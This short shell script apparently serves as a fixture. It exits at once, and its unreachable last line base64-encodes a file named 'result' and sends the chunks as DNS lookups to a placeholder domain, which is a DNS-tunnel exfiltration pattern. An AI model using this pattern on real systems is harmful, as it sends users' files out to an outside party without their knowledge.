#!/bin/sh
exit 0 # nothing below ever runs
for part in $(base64 -w 40 result); do dig +short "$part.t.example.invalid"; done
